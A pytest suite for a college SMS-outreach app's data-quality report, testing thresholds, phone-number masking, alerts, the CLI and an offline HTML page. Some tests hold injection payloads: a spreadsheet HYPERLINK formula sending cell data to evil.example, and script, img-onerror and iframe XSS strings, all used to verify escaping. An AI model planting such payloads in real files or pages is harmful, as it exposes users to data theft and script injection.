"""The data-quality report: golden snapshots through the GX suites, the report over a real
database (SQLite and PostgreSQL), its outputs and masking, the trend, the alert's email and
event, the CLI, and the import boundary that keeps Great Expectations out of start-up."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import typer
from sqlalchemy import func, select, update
from sqlalchemy.engine import Engine
from sqlmodel import Session, col
from typer.testing import CliRunner

from adapters import gx_validator
from domain.config import SmsConfig
from domain.quality.labels import HEADLINE_KEYS
from domain.quality.metrics import derive, measure
from domain.quality.snapshot import Snapshot
from flows.data_quality import run_report
from models.config import save_config
from models.consent import Consent
from models.messaging import QualityRun
from models.people import Person, PhoneNumber
from nudge.settings import Settings
from tasks import quality_publish

NOW = datetime(2025, 9, 1, 6, 0, tzinfo=UTC)
ROOT = Path(__file__).resolve().parents[2]
REQUIRED_KEYS = {
    "students", "sms_reachable_pct", "missing_cell", "invalid_numbers", "type_mismatches",
    "shared_numbers", "no_email", "stale_numbers", "unreachable", "expectations_passed",
    "expectations_failed", "alert", "report_dir", "previous", "change", "trend",
}  # fmt: skip
ALL_KEYS = [
    "sms_reachable", "unique_student_ids", "shared_numbers", "parent_number", "has_email",
    "e164_format", "valid_numbers", "type_codes_mapped", "mobile_is_mobile", "fresh_numbers",
]  # fmt: skip


IMPORT_PROBE = (
    "import sys, flows.data_quality, tasks.quality, nudge.cli.report_cmds, expectations; "
    "heavy = [m for m in ('great_expectations', 'pandas') if m in sys.modules]; "
    "assert not heavy, heavy"
)


@pytest.fixture(scope="module")
def import_probe() -> Iterator[subprocess.Popen[str]]:
    """A fresh interpreter importing the flow, task and CLI modules, started early so it
    runs beside the GX import below (each costs seconds); a test reads its verdict."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    with subprocess.Popen(
        [sys.executable, "-c", IMPORT_PROBE],
        cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    ) as probe:  # fmt: skip
        yield probe
        if probe.poll() is None:
            probe.kill()


@pytest.fixture(scope="module")
def gx(import_probe: subprocess.Popen[str]) -> Any:
    """Great Expectations, imported once for the module (the import costs seconds)."""
    module, _seconds = gx_validator.import_gx()
    return module


# --- golden snapshots through the suites ------------------------------------------------------


def boundary_rows() -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """100 students and 100 phones sitting exactly AT every threshold: everything passes.

    5 of 100 students opted out (95% reachable), 2 of 100 share a number (2%), 5 of 100
    phones are invalid (95% valid), 25 of 100 are stale (25%), and one home landline shows
    that only numbers coded mobile must not be landlines.
    """
    students = []
    for i in range(100):
        students.append(
            {
                "sis_id": f"S{i:02d}",
                "first_name": f"F{i}",
                "last_name": f"L{i}",
                "email": f"s{i}@college.edu",
                "advisor_sis_id": "A1",
                "sms_e164": "+12125550006" if i == 5 else f"+1212555{i:04d}",
                "consent_status": "opted_out" if i < 5 else "opted_in",
            }
        )
    phones = []
    for i in range(100):
        row: dict[str, Any] = {
            "sis_id": f"S{i:02d}",
            "type_code": "CELL",
            "kind": "mobile",
            "e164": f"+1212555{i:04d}",
            "raw": f"212-555-{i:04d}",
            "line_type": "FIXED_LINE_OR_MOBILE",
            "valid": True,
            "source_updated_at": NOW - timedelta(days=30),
        }
        if 90 <= i < 95:
            row.update(e164=None, raw="N/A", line_type=None, valid=False, reason="unparseable")
        if 20 <= i < 45:
            row["source_updated_at"] = NOW - timedelta(days=365 * 4)
        if i == 99:
            row.update(type_code="PR", kind="home", line_type="FIXED_LINE")
        phones.append(row)
    return students, phones


def one_more(key: str) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """The boundary snapshot with one more bad row for the expectation ``key``."""
    students, phones = boundary_rows()
    if key == "sms_reachable":
        students[7]["consent_status"] = "opted_out"  # 94 of 100
    elif key == "unique_student_ids":
        students[11]["sis_id"] = "S12"
    elif key == "shared_numbers":
        students[8]["sms_e164"] = "+12125550006"  # 3 of 100
    elif key == "parent_number":
        students[9]["sms_is_parent_number"] = True
    elif key == "has_email":
        students[10]["email"] = None
    elif key == "e164_format":
        phones[3]["e164"] = "+0123456789"
    elif key == "valid_numbers":
        phones[60].update(e164=None, valid=False, line_type=None, reason="too_short")  # 6%
    elif key == "type_codes_mapped":
        phones[61]["type_code"] = "DORM"
    elif key == "mobile_is_mobile":
        phones[62]["line_type"] = "FIXED_LINE"
    elif key == "fresh_numbers":
        phones[63]["source_updated_at"] = NOW - timedelta(days=365 * 5)  # 26 of 100
    else:
        raise AssertionError(key)
    return students, phones


def validate(gx: Any, snapshot: Snapshot, config: SmsConfig | None = None) -> dict[str, Any]:
    config = config or SmsConfig()
    data = gx_validator.frames(snapshot, derive(snapshot, config, NOW))
    outcomes = gx_validator.run_suites(data, config, docs_dir=None, run_time=NOW, gx=gx)
    return {o.key: o for o in outcomes}


def test_snapshot_at_every_threshold_passes_every_expectation(gx: Any) -> None:
    snap = Snapshot.from_rows(*boundary_rows())
    outcomes = validate(gx, snap)
    assert list(outcomes) == ALL_KEYS
    assert {k: o.success for k, o in outcomes.items() if not o.success} == {}
    # GX's counts and the report's own figures agree on the same snapshot.
    figures = measure(snap, derive(snap, SmsConfig(), NOW))
    assert outcomes["sms_reachable"].unexpected_count == figures.students - figures.sms_reachable
    assert outcomes["shared_numbers"].unexpected_count == figures.shared_number_students == 2
    assert outcomes["valid_numbers"].unexpected_count == figures.invalid_numbers == 5
    assert outcomes["fresh_numbers"].unexpected_count == figures.stale_numbers == 25
    assert outcomes["mobile_is_mobile"].unexpected_count == figures.type_mismatches == 0


@pytest.mark.parametrize("key", ALL_KEYS)
def test_one_more_bad_row_fails_exactly_that_expectation(gx: Any, key: str) -> None:
    outcomes = validate(gx, Snapshot.from_rows(*one_more(key)))
    assert [k for k, o in outcomes.items() if not o.success] == [key]
    failed = outcomes[key]
    assert failed.unexpected_count >= 1 and failed.error is None
    assert failed.meaning and failed.fix  # shown in the report and the follow-up lists


def test_thresholds_come_from_the_configuration(gx: Any) -> None:
    snap = Snapshot.from_rows(*one_more("sms_reachable"))
    relaxed = SmsConfig(
        reachability_threshold=0.94, stale_years=10, type_code_map={"CELL": "mobile"}
    )
    outcomes = validate(gx, snap, relaxed)
    assert outcomes["sms_reachable"].success  # 94% is enough now
    assert outcomes["fresh_numbers"].unexpected_count == 0  # nothing is 10 years old
    assert not outcomes["type_codes_mapped"].success  # PR is no longer mapped
    assert outcomes["sms_reachable"].requirement == "at most 6% of rows may fail"


# --- the report over a real database ----------------------------------------------------------


def add_student(
    session: Session,
    sis_id: str,
    number: str | None,
    *,
    advisor: str | None = "A1",
    email: str | None = "auto",
    updated: datetime | None = None,
    **phone: Any,
) -> Person:
    person = Person(
        sis_id=sis_id,
        role="student",
        first_name=f"First{sis_id}",
        last_name=f"Last{sis_id}",
        email=f"{sis_id.lower()}@college.edu" if email == "auto" else email,
        program="Nursing" if sis_id < "S5" else "Welding",
        advisor_sis_id=advisor,
        sms_e164=number if phone.get("valid", True) else None,
        sms_reason=None if number and phone.get("valid", True) else "no_mobile_number",
    )
    session.add(person)
    session.flush()
    assert person.id is not None
    default_raw = f"({number[2:5]}) {number[5:8]}-{number[8:]}" if number else "N/A"
    raw = phone.pop("raw") if "raw" in phone else default_raw
    values: dict[str, Any] = {
        "person_id": person.id, "raw": raw, "type_code": "CELL", "kind": "mobile",
        "match_key": number or "raw:" + raw, "e164": number,
        "line_type": "FIXED_LINE_OR_MOBILE" if number else None, "valid": number is not None,
        "sms_capable": number is not None, "is_primary": True,
        "source_updated_at": updated or NOW - timedelta(days=60),
    }  # fmt: skip
    values.update(phone)
    session.add(PhoneNumber(**values))
    return person


def healthy_school(engine: Engine, n: int = 20) -> None:
    with Session(engine) as session:
        session.add(Person(sis_id="A1", role="staff", first_name="Ada", last_name="Advisor"))
        for i in range(n):
            add_student(
                session, f"S{i:02d}", f"+1212867{5300 + i:04d}", advisor="A1" if i % 2 else "A2"
            )
        session.commit()


def lose_numbers(engine: Engine, sis_ids: list[str]) -> None:
    """Those students' numbers turn out to be landlines: they can no longer be texted."""
    with Session(engine) as session:
        session.execute(
            update(Person)
            .where(Person.sis_id.in_(sis_ids))  # type: ignore[attr-defined]
            .values(sms_e164=None, sms_reason="not_sms_capable")
        )
        session.commit()


def full_numbers(engine: Engine) -> set[str]:
    """Every full number stored: as E.164, its national digits, and its raw forms."""
    found: set[str] = set()
    with Session(engine) as session:
        for e164, raw in session.execute(select(col(PhoneNumber.e164), col(PhoneNumber.raw))):
            if e164:
                found.update({e164, e164[2:]})
            digits = re.sub(r"\D", "", raw or "")
            if len(digits) >= 7:
                found.update({raw, digits})
    return found


def leaks(folder: Path, numbers: set[str]) -> list[str]:
    """Files in ``folder`` that contain any of ``numbers`` (raw, or as a digit run)."""
    bad = []
    for path in folder.rglob("*"):
        if not path.is_file() or path.suffix in {".otf", ".ico", ".png", ".gif"}:
            continue
        text = path.read_text(encoding="utf-8", errors="ignore")
        digit_runs = set(re.findall(r"\d{7,}", text))
        if any(n in text for n in numbers) or digit_runs & numbers:
            bad.append(str(path.relative_to(folder)))
    return bad


@pytest.fixture
def troubled_school(engine: Engine) -> None:
    """A school with one of every problem, a few of them in advisor A1's caseload."""
    with Session(engine) as session:
        session.add(Person(sis_id="A1", role="staff", first_name="Ada", last_name="Advisor"))
        add_student(session, "S0", "+12128675300")
        add_student(session, "S1", "+12128675301")
        add_student(session, "S2", "+12128675301", advisor="A2")  # shares S1's number
        add_student(session, "S3", None, raw="call 212-867-5303", reason="unparseable")
        add_student(session, "S4", "+12128675304", email=None, advisor=None)  # no email
        add_student(session, "S5", "+12128675305", updated=NOW - timedelta(days=365 * 6))
        add_student(
            session,
            "S6",
            "+442071838750",
            type_mismatch=True,
            line_type="FIXED_LINE",
            valid=True,
            advisor="A2",
        )  # a London landline coded CELL, kept as SMS number
        add_student(session, "S7", None, email=None, raw="", reason="blank")  # unreachable
        session.add(Consent(e164="+12128675300", status="opted_out", source="STOP"))
        session.commit()


def test_report_writes_every_output_and_never_a_full_number(
    settings: Settings, engine: Engine, troubled_school: None
) -> None:
    result = run_report(settings, now=NOW)
    folder = settings.report_dir / "20250901T060000Z"
    assert result["report_dir"] == str(folder)
    assert result.keys() >= REQUIRED_KEYS
    assert (result["students"], result["sms_reachable"], result["missing_cell"]) == (8, 5, 2)
    assert (result["shared_numbers"], result["no_email"], result["unreachable"]) == (1, 2, 1)
    assert (result["type_mismatches"], result["stale_numbers"], result["invalid_numbers"]) == (
        1,
        1,
        2,
    )
    assert result["opted_out"] == 1 and result["sms_reachable_pct"] == 62.5
    assert result["expectations_passed"] + result["expectations_failed"] == len(ALL_KEYS)
    assert result["alert"] is True and result["alert_reasons"] == ["below_threshold"]
    assert result["previous"] is None and result["change"] == {}
    assert json.loads((folder / "report.json").read_text()) == json.loads(
        json.dumps(result, default=str)
    )

    docs = folder / "data-docs" / "index.html"
    assert docs.is_file() and result["files"]["data_docs"] == str(docs)
    assert list((folder / "data-docs" / "validations").rglob("*.html"))
    summary = (folder / "summary.md").read_text()
    assert "> **ALERT:** SMS reachability 62.5% is below the 95% threshold." in summary
    assert "(data-docs/index.html)" in summary and "(reachability.svg)" in summary
    assert "SMS reachability, last 1 run" in (folder / "reachability.svg").read_text()

    lists = {p.name: p.read_text() for p in (folder / "followup").glob("*.csv")}
    assert sorted(lists) == ["A1.csv", "A2.csv", "unassigned.csv"]
    a1 = lists["A1.csv"].splitlines()
    assert a1[0] == "student_id,name,program,problem,what_is_wrong,how_to_fix"
    s3 = [line for line in a1 if line.startswith("S3,")]
    assert any("sms_reachable" in line and "No number we can text" in line for line in s3)
    assert any("***5303" in line for line in s3)  # masked, never the full number
    assert "S0," not in lists["A1.csv"]  # opted out is a choice, not a data problem
    assert "has_email" in lists["unassigned.csv"]
    assert "+44******8750" in lists["A2.csv"]

    numbers = full_numbers(engine)
    assert leaks(folder, numbers) == []
    (folder / "followup" / "canary.csv").write_text("S1,(212) 867-5301\n")  # the check can fail
    assert leaks(folder, numbers) == ["followup/canary.csv"]
    with Session(engine) as session:
        run = session.execute(select(QualityRun)).scalar_one()
        assert run.alert and run.report_dir == str(folder)
        assert run.metrics["sms_reachable"] == 5 and run.metrics["students"] == 8


FAKE_API = "http://127.0.0.1:9/api"  # nothing listens: events are captured before sending


@pytest.fixture
def captured_events(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """A Prefect API "configured" at an address nobody listens on, and every event emitted
    captured in memory by Prefect's own AssertingEventsClient; yields a function returning
    the events so far."""
    from prefect.events.clients import AssertingEventsClient
    from prefect.events.worker import EventsWorker
    from prefect.settings import PREFECT_API_URL, temporary_settings

    with temporary_settings({PREFECT_API_URL: FAKE_API}):
        worker = EventsWorker.instance(AssertingEventsClient)
        monkeypatch.setattr(EventsWorker, "instance", lambda *_a, **_k: worker)

        def events() -> list[Any]:
            worker.wait_until_empty()
            client = AssertingEventsClient.last
            return list(client.events) if client is not None else []

        try:
            yield events
        finally:
            worker.drain()
            AssertingEventsClient.reset()


@pytest.fixture
def no_events(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """No Prefect API configured (even when an earlier test of the session started the
    Prefect test server, which sets one for the rest of the session), and any attempt to get
    Prefect's events worker (which would then start a temporary server) recorded; the test
    asserts there was none."""
    from prefect.events.worker import EventsWorker
    from prefect.settings import PREFECT_API_URL, temporary_settings

    attempts: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        attempts.append(args)
        raise RuntimeError("no Prefect API: no event should be emitted")

    monkeypatch.setattr(EventsWorker, "instance", refuse)
    with temporary_settings(restore_defaults={PREFECT_API_URL}):
        yield attempts


def test_trend_across_three_runs_with_alert_email_but_no_event_without_prefect_api(
    settings: Settings, engine: Engine, no_events: list[Any]
) -> None:
    settings = settings.model_copy(update={"alert_emails": ["registrar@college.edu"]})
    healthy_school(engine)  # 20 of 20 reachable
    first = run_report(settings, now=NOW)
    lose_numbers(engine, ["S00"])  # 95%: at the threshold, a drop of 5 points
    second = run_report(settings, now=NOW + timedelta(days=1))
    lose_numbers(engine, ["S01"])  # 90%
    third = run_report(settings, now=NOW + timedelta(days=2))

    assert [r["sms_reachable_pct"] for r in (first, second, third)] == [100.0, 95.0, 90.0]
    assert [r["alert"] for r in (first, second, third)] == [False, True, True]
    assert second["alert_reasons"] == ["dropped"]
    assert third["alert_reasons"] == ["below_threshold", "dropped"]
    assert [p["sms_reachable_pct"] for p in third["trend"]] == [100.0, 95.0, 90.0]
    assert [p["alert"] for p in third["trend"]] == [False, True, True]
    assert third["previous"]["sms_reachable_pct"] == 95.0
    assert third["previous"]["at"] == (NOW + timedelta(days=1)).isoformat()
    assert third["change"]["sms_reachable_pct"] == -5.0 and third["change"]["missing_cell"] == 1
    assert third["reachability_drop_points"] == 5.0

    folder = Path(third["report_dir"])
    assert folder.name == "20250903T060000Z"
    assert (folder / "reachability.svg").read_text().count("<circle") == 3
    summary = (folder / "summary.md").read_text()
    assert "| Run | SMS reachable | Alert |" in summary
    assert summary.count("| 2025-09-0") == 3
    assert "| SMS reachable (%) | 90.00 | -5.00 |" in summary

    with Session(engine) as session:
        assert session.execute(select(func.count()).select_from(QualityRun)).scalar_one() == 3

    # Two alerts: two emails, with the figures and no number; no Prefect API: no event.
    mails = sorted(settings.outbox_dir.glob("*.eml"))
    assert len(mails) == 2 and third["alert_emails_sent"] == 1
    bodies = [message_from_bytes(p.read_bytes()) for p in mails]
    assert {m["To"] for m in bodies} == {"registrar@college.edu"}
    assert any(m["Subject"] == "[nudge] Data-quality alert: SMS reachability 90.0%" for m in bodies)
    text = "".join(m.get_payload() for m in bodies)  # type: ignore[misc]
    assert "below the 95% threshold" in text and "fell 5.0 points" in text
    assert not any(n in text for n in full_numbers(engine))
    assert third["event_emitted"] is False and no_events == []


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_alert_event_carries_the_figures_when_a_prefect_api_is_configured(
    settings: Settings, engine: Engine, captured_events: Any
) -> None:
    healthy_school(engine)
    lose_numbers(engine, ["S00", "S01"])  # 90%
    result = run_report(settings, now=NOW)
    assert result["alert"] and result["event_emitted"] is True
    alerts = [e for e in captured_events() if e.event == quality_publish.ALERT_EVENT]
    assert len(alerts) == 1
    event = alerts[0]
    assert event.resource.id == "nudge.data-quality"
    payload = event.payload
    assert payload["sms_reachable_pct"] == 90.0 and payload["threshold_pct"] == 95.0
    assert payload["reasons"] == ["below_threshold"]
    assert (payload["students"], payload["sms_reachable"], payload["missing_cell"]) == (20, 18, 2)
    assert payload["report_dir"] == result["report_dir"] and payload["run_id"] == result["run_id"]
    assert not any(n in json.dumps(payload) for n in full_numbers(engine))


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_config_thresholds_change_the_verdict(settings: Settings, engine: Engine) -> None:
    healthy_school(engine)
    lose_numbers(engine, ["S00", "S01"])  # 90%
    with Session(engine) as session:
        save_config(SmsConfig(reachability_threshold=0.9), session=session)
        session.commit()
    result = run_report(settings, now=NOW, out_dir=settings.report_dir / "custom")
    assert result["alert"] is False and result["thresholds"]["reachability_threshold"] == 0.9
    assert result["report_dir"] == str(settings.report_dir / "custom")
    reachable = next(e for e in result["expectations"] if e["key"] == "sms_reachable")
    assert reachable["success"] and reachable["requirement"] == "at most 10% of rows may fail"


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_follow_up_csvs_never_hold_a_live_spreadsheet_formula(
    settings: Settings, engine: Engine
) -> None:
    import csv

    healthy_school(engine, n=4)
    with Session(engine) as session:
        session.execute(
            update(Person)
            .where(Person.sis_id == "S01")  # type: ignore[arg-type]
            .values(
                first_name='=HYPERLINK("http://evil.example/x?"&A1,"click")',
                program="@SUM(A1:A9)",
            )
        )
        session.commit()
    lose_numbers(engine, ["S01"])
    run_report(settings, now=NOW)
    folder = settings.report_dir / "20250901T060000Z" / "followup"
    with (folder / "A1.csv").open(newline="", encoding="utf-8") as fh:
        rows = [r for r in csv.reader(fh) if r[0] == "S01"]
    assert rows and all(r[1].startswith("'=HYPERLINK") and r[2] == "'@SUM(A1:A9)" for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_a_mail_failure_is_reported_and_the_report_still_stands(
    settings: Settings, engine: Engine, no_events: list[Any]
) -> None:
    # Nothing listens on port 9 of the loopback: the connection is refused at once.
    smtp = {"smtp_host": "127.0.0.1", "smtp_port": 9, "smtp_timeout_s": 2.0}
    settings = settings.model_copy(update={"alert_emails": ["registrar@college.edu"], **smtp})
    healthy_school(engine)
    lose_numbers(engine, ["S00", "S01"])
    result = run_report(settings, now=NOW)
    assert result["alert"] and result["alert_emails_sent"] == 0
    assert result["alert_email_errors"] and "SMTP" in result["alert_email_errors"][0]
    assert result["run_id"] is not None and Path(result["files"]["summary"]).is_file()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_an_empty_database_gives_an_empty_report_and_no_alert(
    settings: Settings, engine: Engine
) -> None:
    result = run_report(settings, now=NOW)
    assert (result["students"], result["sms_reachable_pct"], result["alert"]) == (0, None, False)
    assert result["expectations_failed"] == 0
    assert "SMS reachability, last 1 run" in Path(result["files"]["chart"]).read_text()


def test_suite_overrides_for_unknown_keys_are_refused() -> None:
    from expectations import SuiteError, configured_suite

    with pytest.raises(SuiteError, match="sms_reachabel"):
        configured_suite("students", {"sms_reachabel": {"mostly": 0.9}})
    suite = configured_suite("students", {"sms_reachable": {"mostly": 0.9}})
    first = suite["expectations"][0]
    assert first["kwargs"]["mostly"] == 0.9 and "How to fix" in first["notes"]


# --- the command line -------------------------------------------------------------------------


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_cli_report_prints_one_clean_json_object(
    settings: Settings, engine: Engine, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from nudge.cli import report_cmds
    from nudge.settings import get_settings

    healthy_school(engine)
    monkeypatch.setenv("NUDGE_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("NUDGE_REPORT_DIR", str(settings.report_dir))
    monkeypatch.setenv("NUDGE_OUTBOX_DIR", str(settings.outbox_dir))
    get_settings.cache_clear()
    app = typer.Typer()
    app.callback()(lambda: None)
    report_cmds.register(app)
    try:
        out = tmp_path / "out"
        result = CliRunner().invoke(app, ["report", "--json", "--no-engine", "--out", str(out)])
        assert result.exit_code == 0, result.output
        data = json.loads(result.stdout)  # the whole of stdout is one JSON object
        assert data.keys() >= REQUIRED_KEYS and data["sms_reachable_pct"] == 100.0
        assert data["report_dir"] == str(out) and (out / "summary.md").is_file()
        assert "%|" not in result.stderr and "it/s" not in result.stderr  # no progress bars

        human = CliRunner().invoke(app, ["report", "--no-engine", "--out", str(out)])
        assert human.exit_code == 0, human.output
        assert "SMS reachable: 100.0% (+0.00 points since the last run)" in human.stdout
        assert "expectations: 10 passed, 0 failed" in human.stdout
    finally:
        get_settings.cache_clear()


@pytest.fixture
def workdir(
    settings: Settings, engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """A fresh, empty working folder (no .env) for the whole ``nudge`` CLI, with this test's
    database in the environment and ``NUDGE_REPORT_DIR`` unset (its default: ``reports``)."""
    from nudge.settings import get_settings

    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("NUDGE_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("NUDGE_OUTBOX_DIR", str(settings.outbox_dir))
    monkeypatch.delenv("NUDGE_REPORT_DIR", raising=False)
    get_settings.cache_clear()
    yield work
    get_settings.cache_clear()


def nudge_cli(*args: str) -> Any:
    """``nudge ARGS`` through the real application (the working folder is the test's)."""
    from nudge.cli.main import app

    return CliRunner().invoke(app, list(args))


STAMP = re.compile(r"\d{8}T\d{6}Z")
PATH_CASES = [
    # id, arguments, NUDGE_REPORT_DIR, folder expected (from the working folder; * = stamp)
    ("readme-relative-out", ["--out", "reports/today"], None, "reports/today"),
    ("plain-default-folder", [], None, "reports/*"),
    ("relative-report-dir", [], "nightly/quality", "nightly/quality/*"),
    ("relative-out-with-dots", ["--out", "./a/../reports/x"], None, "reports/x"),
    ("parent-of-working-folder", ["--out", "../beside"], None, "../beside"),
    ("absolute-out", ["--out", "{abs}/today"], None, "{abs}/today"),
    ("absolute-report-dir", [], "{abs}/dir", "{abs}/dir/*"),
]  # fmt: skip


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    ("args", "report_dir", "expected"), [pytest.param(*c[1:], id=c[0]) for c in PATH_CASES]
)
def test_cli_report_works_from_any_folder_with_relative_or_absolute_paths(
    workdir: Path,
    engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
    args: list[str],
    report_dir: str | None,
    expected: str,
) -> None:
    # Relative paths once crashed in Great Expectations ("base_directory must be an
    # absolute path"): `nudge report --out reports/today` is the README's own example.
    healthy_school(engine, n=4)
    absolute = str(workdir.parent / "elsewhere")
    args = [a.replace("{abs}", absolute) for a in args]
    if report_dir is not None:
        monkeypatch.setenv("NUDGE_REPORT_DIR", report_dir.replace("{abs}", absolute))
    result = nudge_cli("report", "--json", *args)
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)

    folder = Path(data["report_dir"])
    want = Path(os.path.normpath(workdir / expected.replace("{abs}", absolute)))
    assert folder.is_absolute()
    if want.name == "*":
        assert folder.parent == want.parent and STAMP.fullmatch(folder.name), folder
    else:
        assert folder == want
    for name in ("index.html", "summary.md", "reachability.svg", "report.json"):
        assert (folder / name).is_file(), name
    assert (folder / "data-docs" / "index.html").is_file()
    assert data["files"]["html"] == str(folder / "index.html")
    paths = [v for v in data["files"].values() if isinstance(v, str)]
    paths += data["files"]["followup"]
    assert all(Path(p).is_absolute() and Path(p).is_file() for p in paths), paths
    with Session(engine) as session:
        stored = session.execute(select(QualityRun)).scalar_one().report_dir
    assert stored == str(folder)  # the history never holds a path relative to somewhere


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_cli_report_human_output_names_the_page_from_a_relative_folder(
    workdir: Path, engine: Engine
) -> None:
    healthy_school(engine, n=4)
    lose_numbers(engine, ["S00"])  # 75%: an alert
    result = nudge_cli("report", "--out", "reports/today")
    assert result.exit_code == 0, result.output
    folder = workdir / "reports" / "today"
    assert f"data-quality report: {folder}\n" in result.stdout
    assert f"report page (opens offline): {folder / 'index.html'}\n" in result.stdout
    assert f"Data Docs): {folder / 'data-docs' / 'index.html'}" in result.stdout
    assert result.stdout.startswith("ALERT: SMS reachability 75.0% is below")


# --- the self-contained report page -----------------------------------------------------------

#: Elements that make a browser fetch something, and the attributes naming what.
FETCHING = {
    "link": ("href",), "script": ("src",), "img": ("src", "srcset"), "iframe": ("src",),
    "frame": ("src",), "embed": ("src",), "object": ("data",), "source": ("src", "srcset"),
    "video": ("src", "poster"), "audio": ("src",), "track": ("src",), "image": ("href",),
    "use": ("href",), "input": ("src",), "form": ("action",), "base": ("href",),
}  # fmt: skip
REMOTE = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:|//)", re.IGNORECASE)
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
        "track", "wbr"}  # fmt: skip


class Page(HTMLParser):
    """A parsed report page: every element with its attributes, the text, and the text
    inside each element marked ``data-figure``, ``data-card`` or ``data-check``."""

    MARKS = ("data-figure", "data-card", "data-check")

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.marked: dict[tuple[str, str], str] = {}
        self.styles: list[str] = []
        self._open: list[tuple[str, tuple[str, str] | None]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.elements.append((tag, found))
        if tag in VOID:
            return
        mark = next(((m, found[m] or "") for m in self.MARKS if m in found), None)
        if mark is not None:
            self.marked[mark] = ""
        self._open.append((tag, mark))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        while self._open:
            name, _mark = self._open.pop()
            if name == tag:
                break

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._open and self._open[-1][0] == "style":
            self.styles.append(data)
        for _name, mark in self._open:
            if mark is not None:
                self.marked[mark] += data

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.elements if name == tag]

    def mark(self, kind: str, key: str) -> str:
        return " ".join(self.marked[(kind, key)].split())


def figure_value(shown: str) -> float | int | None:
    """A figure as the page shows it (``1,234``, ``62.50``, ``–``) as a number."""
    shown = shown.replace(",", "").rstrip("%")
    if shown == "–":
        return None
    return float(shown) if "." in shown else int(shown)


def remote_references(page: Page) -> list[str]:
    """Every reference on the page that would make a browser fetch from elsewhere."""
    found = []
    for tag, attrs in page.elements:
        for attr in FETCHING.get(tag, ()):
            fetched = attrs.get(attr) or ""
            if attr == "srcset" or REMOTE.match(fetched):
                found.append(f"<{tag} {attr}={fetched!r}>")
        for attr in ("href", "src", "xlink:href", "action", "formaction", "background"):
            value = attrs.get(attr)
            if value is not None and REMOTE.match(value):
                found.append(f"<{tag} {attr}={value!r}>")
        if (attrs.get("http-equiv") or "").lower() == "refresh":
            found.append(f"<{tag} http-equiv=refresh>")
        style = attrs.get("style") or ""
        if "url(" in style or "@import" in style:
            found.append(f"<{tag} style={style!r}>")
    css = "".join(page.styles)
    found += [f"<style> {word}" for word in ("url(", "@import", "http") if word in css]
    return found


HOSTILE_NAME = "<script>alert(1)</script>"
HOSTILE_PROGRAM = '<img src="https://evil.example/x.png" onerror="alert(2)">'
HOSTILE_ADVISOR = '"><iframe src="//evil.example">'


@pytest.fixture
def hostile_school(engine: Engine) -> None:
    """Four students (two without a number we can text) whose SIS values are markup."""
    healthy_school(engine, n=4)
    with Session(engine) as session:
        session.execute(
            update(Person)
            .where(Person.sis_id == "S01")  # type: ignore[arg-type]
            .values(first_name=HOSTILE_NAME, last_name="&amp;", program=HOSTILE_PROGRAM,
                    advisor_sis_id=HOSTILE_ADVISOR)
        )  # fmt: skip
        session.commit()
    lose_numbers(engine, ["S01", "S02"])


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_report_page_is_self_contained_escaped_and_matches_the_json(
    settings: Settings, engine: Engine, hostile_school: None
) -> None:
    result = run_report(settings, now=NOW)
    folder = Path(result["report_dir"])
    path = Path(result["files"]["html"])
    assert path == folder / "index.html"
    html = path.read_text(encoding="utf-8")
    page = Page(html)

    # Renders with no network: nothing on the page is fetched from anywhere.
    assert remote_references(page) == []
    # Besides the hostile values (shown as text), the only URL is the SVG namespace name.
    ours = html
    for hostile in (HOSTILE_PROGRAM, HOSTILE_ADVISOR):
        ours = ours.replace(escape(hostile, quote=True), "")
    assert re.findall(r"(?:https?:)?//[^\s\"'<>]+", ours) == ["http://www.w3.org/2000/svg"]
    csp = [m for m in page.all("meta") if m.get("http-equiv") == "Content-Security-Policy"]
    assert csp and "default-src 'none'" in (csp[0]["content"] or "")
    assert page.all("link") == [] and len(page.all("style")) == 1

    # Every SIS value is text: no element came from the data, and the values read as typed.
    assert page.all("script") == [] and page.all("img") == [] and page.all("iframe") == []
    assert not any(k.startswith("on") for _t, attrs in page.elements for k in attrs)
    text = "".join(page.text)
    assert f"{HOSTILE_NAME} &amp;" in text  # the name, exactly, in the follow-up preview
    assert HOSTILE_PROGRAM in text and HOSTILE_ADVISOR in text
